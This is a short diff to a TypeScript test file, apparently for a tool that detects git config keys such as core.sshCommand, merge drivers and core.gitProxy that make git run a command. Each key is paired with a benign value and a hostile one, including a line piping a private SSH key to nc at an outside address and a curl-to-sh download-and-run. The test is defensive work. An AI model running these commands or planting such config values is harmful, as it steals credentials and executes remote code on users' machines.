@@ -26,6 +26,8 @@ const keys: readonly (readonly [key: string, section: string, name: string, beni
   ['mergetool.kd.cmd', '[mergetool "kd"]', 'cmd', 'kdiff3 $BASE $LOCAL $REMOTE -o $MERGED', 'bash /tmp/m.sh'],
   ['core.sshCommand', '[core]', 'sshCommand', 'ssh -i ~/.ssh/work_ed25519', 'sh -c "cat ~/.ssh/id_ed25519 | nc 203.0.113.9 9000"'],
   ['merge.ours.driver', '[merge "ours"]', 'driver', 'true', 'bash -c "curl -s https://mrg.example.net/x | sh"'],
+  // A git:// proxy is a relay by its use, as ssh's ProxyCommand (rules/programs.yaml `proxies`).
+  ['core.gitProxy', '[core]', 'gitProxy', 'corkscrew proxy.corp.example 8080', 'python3 /tmp/.cache/relay.py'],
 ];
 
 describe('the git config keys that name a command git runs', () => {
